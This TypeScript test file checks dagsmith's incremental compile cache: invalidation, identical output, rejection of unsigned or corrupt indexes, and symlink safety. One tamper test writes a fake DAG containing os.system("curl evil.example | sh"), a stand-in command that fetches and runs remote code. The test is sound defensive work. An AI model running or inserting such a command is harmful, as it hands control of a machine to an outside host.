/**
 * Incremental compile (issue 12): a changed input invalidates exactly the pipelines that used it, the output is
 * byte-identical with and without the cache, and a corrupt or foreign cache is ignored, never trusted.
 */
import { expect } from 'chai';
import { createHash, createHmac } from 'node:crypto';
import { lstatSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { CACHE_DIR, userCacheDir } from '../../src/cache/compile-cache';
import { buildProject } from '../../src/compile/project';
import { hashTree, makeTemp, removeTemp, runCli } from '../helpers/cli';

/** Signs an index body as this user's compile would (the key lives in the user's cache folder). */
function sign(body: string): string {
  return createHmac('sha256', readFileSync(join(userCacheDir(), 'compile-cache.key')))
    .update(body)
    .digest('hex');
}

const CONFIG = (a: string, b: string, devA: string) => `pipelines: pipelines
outDir: dags-out
airflow: "2.10.3"
vars: { a: ${a}, b: ${b} }
environments:
  dev:
    vars: { a: ${devA} }
`;

const step = (id: string, extra: string) =>
  `  - id: ${id}\n    kind: athena.query\n    database: db\n    outputLocation: "s3://results/${id}/"\n${extra}`;

function project(): string {
  const dir = makeTemp('incremental');
  const files: Record<string, string> = {
    'dagsmith.config.yaml': CONFIG('bucket-a', 'bucket-b', 'dev-a'),
    'pipelines/uses_sql.yaml': `version: 1\nid: uses_sql\nsteps:\n${step('q', '    queryFile: sql/q.sql\n')}`,
    'pipelines/uses_a.yaml': `version: 1\nid: uses_a\nsteps:\n${step('q', '    query: "SELECT \'${a}\'"\n')}`,
    'pipelines/uses_b.yaml': `version: 1\nid: uses_b\nsteps:\n${step('q', '    query: "SELECT \'${b}\'"\n')}`,
    'pipelines/sql/q.sql': 'SELECT 1\n',
    'pipelines/_lib/std.ts': `export const DATABASE = 'features';\n`,
    'pipelines/uses_lib.ts': `import { definePipeline, athena } from 'dagsmith';
import { DATABASE } from './_lib/std';
export default definePipeline({ version: 1, id: 'uses_lib', steps: [athena.query({ id: 'q', database: DATABASE, query: 'SELECT 2', outputLocation: 's3://results/lib/' })] });
`,
    'pipelines/plain.ts': `import { definePipeline, athena } from 'dagsmith';
export default definePipeline({ version: 1, id: 'plain', steps: [athena.query({ id: 'q', database: 'db', query: 'SELECT 3', outputLocation: 's3://results/plain/' })] });
`,
  };
  for (const [path, text] of Object.entries(files)) {
    const abs = join(dir, path);
    mkdirSync(join(abs, '..'), { recursive: true });
    writeFileSync(abs, text);
  }
  return dir;
}

const ALL = ['pipelines/plain.ts', 'pipelines/uses_a.yaml', 'pipelines/uses_b.yaml', 'pipelines/uses_lib.ts', 'pipelines/uses_sql.yaml'];

describe('incremental compile: the cache in .dagsmith/cache/', function () {
  this.timeout(120_000);
  let dir = '';
  beforeEach(() => (dir = project()));
  afterEach(() => removeTemp(dir));

  const recompiled = (env?: string) => [...buildProject({ cwd: dir, cache: true, ...(env ? { env } : {}) }).recompiled].sort();
  const edit = (path: string, f: (s: string) => string) => writeFileSync(join(dir, path), f(readFileSync(join(dir, path), 'utf8')));

  it('compiles everything once, then nothing when nothing changed', () => {
    expect(recompiled()).to.deep.equal(ALL);
    expect(recompiled()).to.deep.equal([]);
  });

  it('takes pipelines from the cache in a long-lived process whose monotonic clock no longer matches the wall clock', () => {
    // After the wall clock is adjusted (NTP), a process's start time plus its monotonic clock drifts from it; here, a
    // minute behind (a fault no test machine produces on demand, hence the stub). File times stay on the wall clock.
    const now = performance.now.bind(performance);
    performance.now = () => now() - 60_000;
    try {
      expect(recompiled()).to.deep.equal(ALL);
      expect(recompiled()).to.deep.equal([]);
      edit('pipelines/_lib/std.ts', (s) => s.replace("'features'", "'features_v3'"));
      expect(recompiled()).to.deep.equal(['pipelines/uses_lib.ts']);
      expect(recompiled()).to.deep.equal([]);
    } finally {
      performance.now = now;
    }
  });

  it('a changed SQL file recompiles exactly the pipeline that reads it', () => {
    recompiled();
    edit('pipelines/sql/q.sql', () => 'SELECT 42\n');
    expect(recompiled()).to.deep.equal(['pipelines/uses_sql.yaml']);
    expect(recompiled()).to.deep.equal([]);
  });

  it('a changed TypeScript helper module recompiles exactly the pipelines that import it', () => {
    recompiled();
    edit('pipelines/_lib/std.ts', (s) => s.replace("'features'", "'features_v2'"));
    expect(recompiled()).to.deep.equal(['pipelines/uses_lib.ts']);
    const lib = buildProject({ cwd: dir, cache: true }).pipelines.find((p) => p.ir.id === 'uses_lib')!;
    expect(lib.content).to.contain('database="features_v2"');
  });

  it("a changed variable in the config recompiles exactly the pipelines that use it, and one environment's vars only that environment's", () => {
    recompiled();
    recompiled('dev');
    edit('dagsmith.config.yaml', () => CONFIG('bucket-a', 'bucket-b2', 'dev-a'));
    expect(recompiled()).to.deep.equal(['pipelines/uses_b.yaml']);
    expect(recompiled('dev')).to.deep.equal(['pipelines/uses_b.yaml']);
    edit('dagsmith.config.yaml', () => CONFIG('bucket-a', 'bucket-b2', 'dev-a2'));
    expect(recompiled()).to.deep.equal([]);
    expect(recompiled('dev')).to.deep.equal(['pipelines/uses_a.yaml']);
  });

  it('a variable a SQL file uses is a key of the pipelines that read the file: changing it recompiles them', () => {
    edit('pipelines/sql/q.sql', () => "SELECT '${b}'\n");
    expect(recompiled()).to.deep.equal(ALL);
    edit('dagsmith.config.yaml', () => CONFIG('bucket-a2', 'bucket-b', 'dev-a'));
    expect(recompiled()).to.deep.equal(['pipelines/uses_a.yaml']);
    edit('dagsmith.config.yaml', () => CONFIG('bucket-a2', 'bucket-b3', 'dev-a'));
    expect(recompiled()).to.deep.equal(['pipelines/uses_b.yaml', 'pipelines/uses_sql.yaml']);
    const sql = buildProject({ cwd: dir, cache: true }).pipelines.find((p) => p.ir.id === 'uses_sql')!;
    expect(sql.content).to.contain("SELECT 'bucket-b3'");
  });

  it('another Airflow target is compiled afresh (and keeps its own cache)', () => {
    recompiled();
    edit('dagsmith.config.yaml', (s) => s.replace('airflow: "2.10.3"', 'airflow: "3.0.6"'));
    expect(recompiled()).to.deep.equal(ALL);
    edit('dagsmith.config.yaml', (s) => s.replace('airflow: "3.0.6"', 'airflow: "2.10.3"'));
    expect(recompiled()).to.deep.equal([]);
  });

  it('a new error is found in a changed file while the unchanged files come from the cache', () => {
    recompiled();
    edit('pipelines/uses_a.yaml', (s) => s.replace('database: db', 'databse: db'));
    const res = buildProject({ cwd: dir, cache: true });
    expect(res.recompiled).to.deep.equal(['pipelines/uses_a.yaml']);
    expect(res.diagnostics.map((d) => `${d.file}:${d.line}:${d.col} ${d.code}`)).to.deep.equal([
      'pipelines/uses_a.yaml:4:5 DS201',
      'pipelines/uses_a.yaml:6:5 DS200',
    ]);
    // The error is cached too: still reported without recompiling.
    const again = buildProject({ cwd: dir, cache: true });
    expect(again.recompiled).to.deep.equal([]);
    expect(again.diagnostics.map((d) => d.code)).to.deep.equal(['DS201', 'DS200']);
  });

  it('a duplicate pipeline id across a cached and a changed file is still found', () => {
    recompiled();
    edit('pipelines/uses_b.yaml', (s) => s.replace('id: uses_b', 'id: uses_a'));
    const res = buildProject({ cwd: dir, cache: true });
    expect(res.recompiled).to.deep.equal(['pipelines/uses_b.yaml']);
    expect(res.diagnostics.map((d) => `${d.file} ${d.code}`)).to.deep.equal(['pipelines/uses_b.yaml DS311']);
  });

  it('writes byte-identical DAGs with and without the cache (CLI)', async () => {
    expect((await runCli(['compile'], dir)).code).to.equal(0);
    const cached = hashTree(join(dir, 'dags-out'));
    edit('pipelines/sql/q.sql', () => 'SELECT 7\n');
    expect((await runCli(['compile'], dir)).out).to.contain('1 updated');
    const withCache = hashTree(join(dir, 'dags-out'));
    expect((await runCli(['compile', '--no-cache'], dir)).out).to.contain('0 updated');
    expect(hashTree(join(dir, 'dags-out'))).to.deep.equal(withCache);
    expect(withCache).to.not.deep.equal(cached);
  });

  /** The index of the one cache folder (one target, one output folder). */
  const indexPath = () => {
    const [folder, ...others] = readdirSync(join(dir, CACHE_DIR));
    expect(others, 'one cache folder').to.deep.equal([]);
    return join(dir, CACHE_DIR, folder!, 'index.json');
  };

  it('ignores a corrupt or foreign cache index and rewrites it', () => {
    recompiled();
    const path = indexPath();
    const good = readFileSync(path, 'utf8');
    writeFileSync(path, good.replace('uses_a', 'uses_z'));
    expect(recompiled(), 'checksum mismatch').to.deep.equal(ALL);
    writeFileSync(path, '{"format":"something else"}');
    expect(recompiled(), 'foreign file').to.deep.equal(ALL);
    const body = good.slice(65).replace(/"format":"dagsmith-compile-cache\/\d+"/, '"format":"dagsmith-compile-cache/0"');
    expect(body).to.not.equal(good.slice(65));
    writeFileSync(path, `${sign(body)}\n${body}`);
    expect(recompiled(), 'other format version, valid signature').to.deep.equal(ALL);
    expect(recompiled()).to.deep.equal([]);
  });

  it('ignores an index it did not sign (one committed to the repository): a tampered DAG file is put back', async () => {
    expect((await runCli(['compile'], dir)).code).to.equal(0);
    const expected = hashTree(join(dir, 'dags-out'));
    const path = indexPath();
    const body = readFileSync(path, 'utf8').slice(65);
    // The attacker's DAG, and an index that says the output is exactly that file.
    const evil = '# Generated by dagsmith\nimport os\nos.system("curl evil.example | sh")\n';
    writeFileSync(join(dir, 'dags-out', 'uses_a.py'), evil);
    const entries = JSON.parse(body) as { entries: { pipeline: { outPath: string; outSha256: string; outSig: unknown } | null }[] };
    for (const e of entries.entries) {
      if (e.pipeline?.outPath === 'dags-out/uses_a.py')
        Object.assign(e.pipeline, { outSha256: createHash('sha256').update(evil).digest('hex'), outSig: null });
    }
    const forged = JSON.stringify(entries);
    writeFileSync(path, `${createHash('sha256').update(forged).digest('hex')}\n${forged}`);
    expect((await runCli(['compile', '--check'], dir)).code, 'compile --check sees the tampered file').to.equal(1);
    writeFileSync(path, `${createHash('sha256').update(forged).digest('hex')}\n${forged}`);
    expect((await runCli(['compile'], dir)).out).to.contain('1 updated');
    expect(hashTree(join(dir, 'dags-out'))).to.deep.equal(expected);
    // Signed with this user's key, the same index would have been believed: the signature is what protects it.
    writeFileSync(join(dir, 'dags-out', 'uses_a.py'), evil);
    writeFileSync(path, `${sign(forged)}\n${forged}`);
    expect((await runCli(['compile', '--check'], dir)).code).to.equal(0);
  });

  it('does not use a cache folder that is a symbolic link: nothing is read or written through it', async () => {
    const outside = makeTemp('outside');
    try {
      symlinkSync(outside, join(dir, '.dagsmith'));
      expect((await runCli(['compile'], dir)).code).to.equal(0);
      expect(readdirSync(outside)).to.deep.equal([]);
      expect(recompiled()).to.deep.equal(ALL);
    } finally {
      removeTemp(outside);
    }
  });

  it('never writes through a link a pull request committed: not at the temp name, not at the index (finding 1)', async () => {
    expect((await runCli(['compile'], dir)).code).to.equal(0);
    const path = indexPath();
    const outside = makeTemp('outside');
    try {
      // A committed .dagsmith/ with links at every name the index write used: its temp file (this pid, and others)
      // and the index itself. The victims are files the CI user may write.
      const victims = new Map<string, string>();
      rmSync(path);
      for (const name of ['index.json', ...[process.pid, process.pid + 1, 1, 2].map((pid) => `index.json.${pid}.tmp`)]) {
        const victim = join(outside, `victim-${name}`);
        writeFileSync(victim, `precious ${name}\n`);
        victims.set(victim, `precious ${name}\n`);
        symlinkSync(victim, join(path, '..', name));
      }
      edit('pipelines/sql/q.sql', (t) => t.replace('1', '11'));
      expect((await runCli(['compile'], dir)).code).to.equal(0);
      for (const [victim, text] of victims) expect(readFileSync(victim, 'utf8'), victim).to.equal(text);
      expect(readdirSync(outside).sort()).to.deep.equal([...victims.keys()].map((v) => v.slice(outside.length + 1)).sort());
      // The index is written as a file of its own in place of the link, and the cache works again.
      expect(lstatSync(path).isFile()).to.equal(true);
      expect(recompiled()).to.deep.equal([]);
    } finally {
      removeTemp(outside);
    }
  });

  it('holds no DAG text: a DAG file that is missing or was edited is compiled again from its unchanged pipeline', async () => {
    expect((await runCli(['compile'], dir)).code).to.equal(0);
    const expected = hashTree(join(dir, 'dags-out'));
    expect(readdirSync(join(indexPath(), '..'))).to.deep.equal(['index.json']);
    rmSync(join(dir, 'dags-out', 'uses_a.py'));
    writeFileSync(join(dir, 'dags-out', 'uses_b.py'), '# Generated by dagsmith, then edited by hand\n');
    const run = await runCli(['compile'], dir);
    expect(run.out).to.contain('1 created, 1 updated, 3 unchanged');
    expect(hashTree(join(dir, 'dags-out'))).to.deep.equal(expected);
    expect(recompiled(), 'the pipelines themselves are still cached').to.deep.equal([]);
  });

  it('a DAG file edited by hand is put back even when every pipeline comes from the cache', async () => {
    expect((await runCli(['compile'], dir)).code).to.equal(0);
    const expected = hashTree(join(dir, 'dags-out'));
    const path = join(dir, 'dags-out', 'plain.py');
    // Same size, so that only the content (and the times) differ.
    const text = readFileSync(path, 'utf8');
    writeFileSync(path, text.replace('SELECT 3', 'SELECT 4'));
    const run = await runCli(['compile'], dir);
    expect(run.out).to.contain('0 created, 1 updated, 4 unchanged');
    expect(hashTree(join(dir, 'dags-out'))).to.deep.equal(expected);
    expect(recompiled()).to.deep.equal([]);
  });

  it('trusts a file by its size, times and inode only once it has settled; a same-size edit with its old mtime is still seen', async function () {
    this.timeout(60_000);
    // Files written within 2 s of being hashed are hashed again next time ("racy" files, as git calls them).
    const sql = join(dir, 'pipelines/sql/q.sql');
    const hourAgo = Math.round(Date.now() / 1000) - 3600;
    utimesSync(sql, hourAgo, hourAgo);
    recompiled();
    const deps = () =>
      new Map(
        (
          JSON.parse(readFileSync(indexPath(), 'utf8').slice(65)) as { entries: { file: string; deps: { path: string; sig: unknown }[] }[] }
        ).entries.flatMap((e) => e.deps.map((d) => [d.path, d.sig] as const)),
      );
    expect(
      [...deps().values()].every((sig) => sig === null),
      'fresh files: no signature',
    ).to.equal(true);
    await new Promise((r) => setTimeout(r, 2100));
    expect(recompiled()).to.deep.equal([]);
    expect(
      [...deps().values()].every((sig) => Array.isArray(sig)),
      'settled files: signatures recorded',
    ).to.equal(true);
    // A same-size edit that puts the old mtime back (as `cp -p` or `rsync -t` do): the change time gives it away.
    const before = statSync(sql);
    writeFileSync(sql, 'SELECT 9\n');
    utimesSync(sql, hourAgo, hourAgo);
    const after = statSync(sql);
    expect([after.size, after.mtimeMs, after.ino]).to.deep.equal([before.size, before.mtimeMs, before.ino]);
    expect(recompiled()).to.deep.equal(['pipelines/uses_sql.yaml']);
  });

  it('--no-cache recompiles everything and leaves the cache alone; library callers do not use it unless asked', () => {
    expect([...buildProject({ cwd: dir }).recompiled].sort()).to.deep.equal(ALL);
    expect(() => readdirSync(join(dir, CACHE_DIR))).to.throw();
  });
});
